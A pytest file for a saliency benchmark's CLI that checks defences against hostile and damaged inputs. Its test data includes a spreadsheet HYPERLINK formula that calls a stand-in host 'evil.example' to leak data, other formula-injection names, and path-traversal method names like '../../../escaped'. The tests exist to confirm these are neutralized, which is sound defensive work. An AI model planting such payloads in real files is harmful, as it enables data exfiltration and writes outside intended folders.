"""Hostile and damaged inputs: formula names in every CSV, method names that are paths, tolerances that switch a
check off, non-finite scores, damaged custom shift files, a full disk under ``salbench-check --update``."""

from __future__ import annotations

import csv
import errno
import json
import math
import pickle
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch

from bench.cli import check as check_cli
from bench.cli import leaderboard as lb_cli
from bench.core.results import write_table
from bench.reporting import render
from bench.reporting.check import compare
from bench.reporting.leaderboard import NONFINITE_COLUMN, build_leaderboard, parse_nonfinite
from bench.reporting.safe_csv import FORMULA_START, neutralize, restore, safe_file_part
from bench.twins.shifts import ShiftSpec, custom, make_shift

EVIL = '=HYPERLINK("http://evil.example/?leak","click")'
#: a method name for each character that starts a formula, and a name that starts with a quote before one of them
FORMULA_NAMES = {"gradient": EVIL, "gxi": "+1+2", "gbp": "-2+3", "ig_black": "@SUM(A1:A9)"}
#: a carriage return inside a name must not start a new row (whose first cell would be the formula)
TAB_NAMES = {"gradient": "\tcmd", "gxi": "\rcmd", "gbp": "'=quoted", "ig_black": "x\r=SUM(1)"}
INV_CELL, AUC_CELL = "inv/mean_shift/ssim", "rand/cascading/ssim/auc"


def _sweep(root: Path, inv: pd.DataFrame, rand: pd.DataFrame) -> Path:
    """A sweep folder of one invariance and one randomization job (job.json ok)."""
    for i, table in enumerate([inv, rand]):
        job = root / str(i)
        write_table(table, job)
        (job / "job.json").write_text(json.dumps({"status": "ok"}))
    return root


def _renamed(table: pd.DataFrame, names: dict[str, str]) -> pd.DataFrame:
    return table.assign(method=table["method"].map(lambda m: names.get(m, m)))


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _assert_neutral(path: Path, names: dict[str, str]) -> None:
    """No text cell of the CSV starts a formula; every hostile name is one cell, with a quote in front where it
    starts like a formula; numbers (negative ones included) stay numbers."""
    rows = _cells(path)
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with "-" or "+": a non-number raises here
    flat = {cell for row in rows for cell in row}
    for name in names.values():
        if name.startswith((*FORMULA_START, "'")):
            assert "'" + name in flat and name not in flat, (path.name, name)
        else:
            assert name in flat, (path.name, name)  # one cell, as it is


# ---------------------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("names", [FORMULA_NAMES, TAB_NAMES], ids=["formulas", "tab-cr-quote"])
def test_formula_names_are_neutralized_in_every_csv_and_round_trip(tmp_path, capsys, invariance_table,
                                                                   randomization_table, names):
    sweep = _sweep(tmp_path / "sweep", _renamed(invariance_table(), names), _renamed(randomization_table(), names))
    out = tmp_path / "out"
    a, b = names["gradient"], names["gxi"]  # ("-2+3" cannot follow --compare: argparse reads it as an option)
    assert lb_cli.main([str(sweep), "--out", str(out), "--format", "md,csv,html", "--compare", a, b]) == 0
    (compare_csv,) = out.glob("compare_*.csv")
    _assert_neutral(out / "leaderboard.csv", names)
    _assert_neutral(compare_csv, {"a": a, "b": b})
    negative = [c for row in _cells(compare_csv)[1:] for c in row if c.startswith("-")]
    assert negative and all(float(c) < 0 for c in negative)  # differences below zero: numbers, not quoted
    assert pd.read_csv(compare_csv)["diff"].dtype == float

    baseline = tmp_path / "ci" / "baseline.csv"
    assert check_cli.main([str(sweep), "--baseline", str(baseline), "--update"]) == 0
    _assert_neutral(baseline, names)
    capsys.readouterr()
    # read back, the names are the methods' own: the run matches its baseline, and so does the CSV as the run
    assert check_cli.main([str(sweep), "--baseline", str(baseline)]) == 0
    assert capsys.readouterr().out.startswith("OK")
    assert check_cli.main([str(out / "leaderboard.csv"), "--baseline", str(baseline), "--atol", "0"]) == 0


def test_neutralize_and_restore_are_exact_inverses():
    for text in ["=x", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''x", "'x", "x", "", "'", "x=1", "-", "'-1"]:
        assert restore(neutralize(text)) == text
        assert not neutralize(text).startswith(FORMULA_START)
    assert neutralize("'x") == "'x" and neutralize(-1.5) == -1.5 and neutralize(None) is None
    assert restore("'x") == "'x"  # a quote that neutralize did not add stays


def test_a_method_name_that_is_a_path_stays_inside_out(tmp_path, capsys, invariance_table, randomization_table):
    names = {"gradient": "../../../escaped", "gbp": "a/b\\..\\c"}
    root = tmp_path / "deep" / "er"
    sweep = _sweep(root / "sweep", _renamed(invariance_table(), names), _renamed(randomization_table(), names))
    out = root / "out"
    assert lb_cli.main([str(sweep), "--out", str(out), "--format", "csv", "--compare", *names.values()]) == 0
    written = [p for p in tmp_path.rglob("*") if p.is_file() and "compare" in p.name]
    assert len(written) == 1 and written[0].parent == out, written
    assert ".." not in written[0].name and "/" not in written[0].name
    assert str(written[0]) in capsys.readouterr().err
    assert safe_file_part("a/b") != safe_file_part("a_b")  # two names never share a file


# ---------------------------------------------------------------------------------------- tolerances


@pytest.mark.parametrize("atol", ["nan", "-1", "inf", "-inf", "abc"])
def test_atol_must_be_a_finite_number_at_least_zero(tmp_path, capsys, make_sweep, atol):
    sweep = make_sweep(tmp_path, failed=False, figure=False)
    baseline = tmp_path / "baseline.csv"
    assert check_cli.main([str(sweep), "--baseline", str(baseline), "--update"]) == 0
    capsys.readouterr()
    with pytest.raises(SystemExit) as exit_:
        check_cli.main([str(sweep), "--baseline", str(baseline), f"--atol={atol}"])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert f"argument --atol: {atol}" in err or f"argument --atol: '{atol}'" in err
    assert "accepted: a finite number >= 0" in err
    assert check_cli.main([str(sweep), "--baseline", str(baseline), "--atol", "0"]) == 0
    with pytest.raises(ValueError, match="atol=nan is not accepted"):
        compare(build_leaderboard(pd.read_parquet(next(sweep.rglob("results.parquet")))),
                pd.read_csv(baseline), atol=float("nan"))


# ---------------------------------------------------------------------------------------- non-finite scores


def _poison(inv: pd.DataFrame, rand: pd.DataFrame, value: float) -> tuple[pd.DataFrame, pd.DataFrame]:
    """One of the 2 SSIM scores of mlp / gradient / mean_shift, and one of the 8 scores of its cascade's middle
    stage (a part of the AUC only), set to ``value``."""
    inv, rand = inv.copy(), rand.copy()
    sel = (inv.model == "mlp") & (inv.method == "gradient") & (inv.condition == "mean_shift") & (inv.metric == "ssim")
    inv.loc[inv.index[sel][:1], "score"] = value
    sel = ((rand.model == "mlp") & (rand.method == "gradient") & (rand.condition == "cascading")
           & (rand.metric == "ssim") & (rand.layer == "fc2"))
    rand.loc[rand.index[sel][:1], "score"] = value
    return inv, rand


@pytest.mark.parametrize("kind, value", [("NaN", float("nan")), ("inf", float("inf")), ("inf", float("-inf"))])
def test_nonfinite_scores_fail_the_check_cell_by_cell(tmp_path, capsys, invariance_table, randomization_table, kind,
                                                      value):
    clean = _sweep(tmp_path / "clean", invariance_table(), randomization_table())
    baseline = tmp_path / "baseline.csv"
    assert check_cli.main([str(clean), "--baseline", str(baseline), "--update"]) == 0
    capsys.readouterr()
    bad = _sweep(tmp_path / "bad", *_poison(invariance_table(), randomization_table(), value))
    assert check_cli.main([str(bad), "--baseline", str(baseline)]) == 1
    out = capsys.readouterr().out
    assert out.startswith("FAILED") and "2 cell(s) hold non-finite scores" in out  # cnn's NaN: in the baseline
    assert f"mlp / gradient / {INV_CELL}: 1 {kind} of 2 samples" in out
    assert f"mlp / gradient / {AUC_CELL}: 1 {kind} of 8 samples" in out
    assert "inf [" not in out and "verdicts flipped" not in out

    # --update accepts NaN (it can be legitimate) but never inf
    assert check_cli.main([str(bad), "--baseline", str(baseline), "--update"]) == 0
    assert ("2 cell(s) hold infinite scores" in capsys.readouterr().err) == (kind == "inf")
    code = check_cli.main([str(bad), "--baseline", str(baseline)])
    out = capsys.readouterr().out
    if kind == "NaN":
        assert code == 0 and "hold NaN scores that the baseline records too" in out
        assert f"mlp / gradient / {INV_CELL} (1 of 2)" in out
    else:
        assert code == 1 and "an infinite score is never accepted" in out


def test_the_leaderboard_marks_nonfinite_cells_and_keeps_inf_out_of_means(tmp_path, invariance_table,
                                                                          randomization_table):
    inv, rand = _poison(invariance_table(), randomization_table(), float("inf"))
    last = (rand.model == "mlp") & (rand.method == "gxi") & (rand.layer == "fc1") & (rand.metric == "ssim")
    rand.loc[rand.index[last][:1], "score"] = float("inf")
    board = build_leaderboard(pd.concat([inv, rand], ignore_index=True))
    row = board.set_index(["model", "method"]).loc[("mlp", "gradient")]
    assert parse_nonfinite(row[NONFINITE_COLUMN]) == {INV_CELL: {"n": 2, "inf": 1}, AUC_CELL: {"n": 8, "inf": 1}}
    assert row[INV_CELL] == pytest.approx(1.0) and row["inv/mean_shift/verdict"] == "exact"
    gxi = board.set_index(["model", "method"]).loc[("mlp", "gxi")]
    assert math.isfinite(gxi["rand/cascading/ssim/last"]) and gxi["rand/cascading/ssim/last"] == pytest.approx(
        (0.94 * 4 + 0.9 * 3) / 7)  # the mean of the finite samples, as its interval
    assert gxi["rand/cascading/ssim/last_lo"] <= gxi["rand/cascading/ssim/last"] <= gxi["rand/cascading/ssim/last_hi"]
    # the legitimate NaN of the fixture (a constant map's rank correlation would give one) is reported too
    cnn = board.set_index(["model", "method"]).loc[("cnn", "gradient")]
    assert parse_nonfinite(cnn[NONFINITE_COLUMN])["rand/cascading/ssim/last"] == {"n": 8, "NaN": 4}

    md = render.to_markdown(board)
    assert "| 1.000* [1.000, 1.000]" in md and "inf [" not in md
    assert "Cells marked * hold non-finite per-sample scores" in md
    assert f"- gradient / {INV_CELL}: 1 inf of 2 samples" in md and "- gxi / rand/cascading/ssim/last: 1 inf" in md
    page = render.to_html(board, meta={})
    assert "1.000<span class='nonfinite' title='1 inf of 2 samples'></span> <span class='ci'>" in page
    assert "<li>gradient / inv/mean_shift/ssim: 1 inf of 2 samples</li>" in page
    paths = render.write_leaderboard(board, tmp_path, ["csv"])
    read = render.read_leaderboard_csv(paths["csv"]).set_index(["model", "method"])
    assert parse_nonfinite(read.loc[("mlp", "gradient"), NONFINITE_COLUMN]) == parse_nonfinite(row[NONFINITE_COLUMN])


def test_a_legitimately_infinite_exactness_distance_is_kept(invariance_table):
    inv = invariance_table()
    sel = (inv.model == "mlp") & (inv.method == "gradient") & (inv.condition == "mean_shift")
    rel = inv.index[sel & (inv.metric == "max_rel_diff")]
    inv.loc[rel, "score"] = [0.0, float("inf")]  # one zero map: max|a - b| / 0
    row = build_leaderboard(inv).set_index(["model", "method"]).loc[("mlp", "gradient")]
    assert row["inv/mean_shift/verdict"] == "pass"  # not exact: the infinite distance counted, not dropped


# ---------------------------------------------------------------------------------------- custom shift files


def _numpy_file(path: Path) -> None:
    with open(path, "wb") as f:
        np.save(f, np.zeros(3))


def _truncated(path: Path) -> None:
    torch.save(torch.zeros(1, 4, 4), path)
    path.write_bytes(path.read_bytes()[:100])


class _Thing:
    pass


@pytest.mark.parametrize("write, what", [
    (lambda p: p.write_bytes(b""), "is empty (0 bytes)"),
    (lambda p: p.write_text("hello world"), "is not a torch file"),
    (_truncated, "is not a complete torch file"),
    (lambda p: p.write_bytes(pickle.dumps(object)), "holds Python objects other than tensors and numbers"),
    (lambda p: torch.save(_Thing(), p), "holds Python objects other than tensors and numbers"),
    (_numpy_file, "is a NumPy .npy file, not a torch file"),
    (lambda p: torch.save({"m": torch.zeros(1, 4, 4)}, p), "holds a dict with the keys ['m'], not a tensor"),
    (lambda p: torch.save("abc", p), "holds a str, not a tensor"),
    (lambda p: torch.save(torch.zeros(3, 3), p), "has shape (3, 3); expected one input's shape (1, 4, 4)"),
    (lambda p: p.mkdir(), "is a folder"),
], ids=["empty", "text", "truncated", "pickle", "object", "numpy", "dict", "str", "shape", "folder"])
def test_a_damaged_custom_shift_file_is_a_clear_error(tmp_path, write, what):
    path = tmp_path / "m.pt"
    write(path)
    with pytest.raises(ValueError) as err:
        make_shift(ShiftSpec("custom", path=str(path)), (1, 4, 4))
    message = str(err.value)
    assert f"the custom shift file {path} (transform.custom.path) {what}" in message
    assert "accepted: a file written by torch.save(tensor, path)" in message and "(1, 4, 4)" in message
    assert "weights_only" not in message and err.value.__cause__ is None
    assert err.value.__context__ is None or err.value.__suppress_context__  # torch's advice is not chained either


def test_custom_shift_files_that_work_still_work(tmp_path):
    torch.save([1.0, 2.0, 3.0, 4.0], tmp_path / "list.pt")  # numbers broadcast along the last axis
    assert custom(tmp_path / "list.pt", (1, 4, 4))[0, 2].tolist() == [1.0, 2.0, 3.0, 4.0]
    with pytest.raises(FileNotFoundError, match=r"missing\.pt \(transform\.custom\.path\) does not exist"):
        custom(tmp_path / "missing.pt", (1, 4, 4))
    with pytest.raises(ValueError, match=r"transform\.custom\.path=m\.pt"):
        make_shift(ShiftSpec("custom"), (1, 4, 4))


# ---------------------------------------------------------------------------------------- a full disk


@pytest.mark.parametrize("existed", [True, False], ids=["old-baseline", "no-baseline"])
def test_update_on_a_full_disk_exits_2_and_keeps_the_old_baseline(tmp_path, capsys, make_sweep, monkeypatch,
                                                                   existed):
    sweep = make_sweep(tmp_path, failed=False, figure=False)
    baseline = tmp_path / "ci" / "baseline.csv"
    if existed:
        assert check_cli.main([str(sweep), "--baseline", str(baseline), "--update"]) == 0
    else:
        baseline.parent.mkdir()
    before = baseline.read_bytes() if existed else None
    capsys.readouterr()

    def full_disk(self, path=None, *args, **kwargs):  # noqa: ANN001, ANN202
        Path(path).write_text("model,method\nhalf a fi")  # the disk fills up halfway through
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_disk)
    assert check_cli.main([str(sweep), "--baseline", str(baseline), "--update"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("salbench-check: error: cannot write the baseline") and str(baseline) in err
    assert "[Errno 28]" in err and "no space left" in err.lower()
    assert ("the old baseline is left as it was" if existed else "no baseline was written") in err
    assert "Traceback" not in err
    assert (baseline.read_bytes() if baseline.exists() else None) == before
    assert sorted(p.name for p in baseline.parent.iterdir()) == (["baseline.csv"] if existed else [])
